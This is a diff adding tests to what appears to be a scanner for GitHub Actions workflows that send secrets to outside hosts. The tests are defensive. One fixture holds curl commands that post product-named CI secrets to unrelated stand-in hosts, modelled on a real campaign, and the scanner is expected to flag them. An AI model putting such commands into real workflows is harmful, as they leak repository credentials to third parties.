@@ -413,6 +413,36 @@ describe('gha-secrets-exfiltration', () => {
     expect(dropOwnHostSends(findings, 'other', 'thing').map((f) => f.line)).toEqual([6, 7, 10]);
   });
 
+  it('reports a secret named for a product (MYAPP_TOKEN, ACME_DEPLOY_KEY) sent in a body to a host that carries neither that name nor the repository\'s, high (GhostAction used each repository\'s own secret names)', () => {
+    const sent = `on: push\n${job(`      - run: curl -s -X POST https://api.buildstat-hub.io/v1/collect -d "t=$T"
+        env:
+          T: \${{ secrets.MYAPP_TOKEN }}
+      - run: curl -s https://ingest.telemetry-cdn.dev/c --data '{"k":"\${{ secrets.ACME_DEPLOY_KEY }}"}'
+      - run: curl -s -F "token=\${{ secrets.ZEPHYR_API_TOKEN }}" https://hooks.tint.acme.dev/release
+`)}`;
+    expect(only(sent, 'gha-secrets-exfiltration')).toEqual([
+      ['gha-secrets-exfiltration', 'high', 6],
+      ['gha-secrets-exfiltration', 'high', 9],
+      ['gha-secrets-exfiltration', 'high', 10],
+    ]);
+    const findings = extractWorkflow(sent, '.github/workflows/x.yml').findings ?? [];
+    expect(findings.find((f) => f.line === 6)?.title).toBe('A secret named for another product is sent as data to api.buildstat-hub.io');
+    expect(dropOwnHostSends(findings, 'acme', 'tint').map((f) => f.line)).toEqual([6, 9]);
+  });
+
+  it('is quiet on a product-named secret sent to a host with the product in its name, one whose name is in the secret\'s, or a name whose words are a use or an abbreviation', () => {
+    const normal = `on: push\n${job(`      - run: curl -s -X POST https://api.jelly-cloud.com/1.0/exec -d "token=\${{ secrets.JELLYCLOUD_TOKEN }}" -d "cmd=redeploy"
+      - run: curl -s -F "file=@app.apk" -F "token=\${{ secrets.APKDROP_TOKEN }}" https://upload.apkdrop.io/
+      - run: curl -s -F "token=\${{ secrets.SHARE_LINK_TOKEN }}" -F "file=@dist.zip" https://connect.share.link/api/upload
+      - run: curl -s -d "api_key=\${{ secrets.MAILFOX_API_KEY }}" https://api.mail-fox.net/v3/messages
+      - run: curl -s -d "secret=\${{ secrets.WEBHOOK_SECRET }}" https://ci.buildstat-hub.io/register
+      - run: curl -s -d "token=\${{ secrets.DO_TOKEN }}" https://api.buildstat-hub.io/v2/droplets
+      - run: curl -s -d "client_secret=\${{ secrets.ZEPHYR_CLIENT_SECRET }}" https://id.buildstat-hub.io/oauth/token
+      - run: curl -s -X POST "https://deploy.buildstat-hub.io/hook?token=\${{ secrets.ZEPHYR_DEPLOY_TOKEN }}"
+`)}`;
+    expect(only(normal, 'gha-secrets-exfiltration')).toEqual([]);
+  });
+
   it('is quiet on such a secret in a URL (a deploy hook), to a known service, to a login or token endpoint, without a body, or a secret whose name says what it is for', () => {
     const normal = `on: push\n${job(`      - run: curl -fsS -X POST "https://deploy.buildstat-hub.io/hooks/release?token=\${{ secrets.API_TOKEN }}"
       - run: curl -s -d "token=\${{ secrets.API_TOKEN }}" https://api.github.com/repos/o/r/dispatches
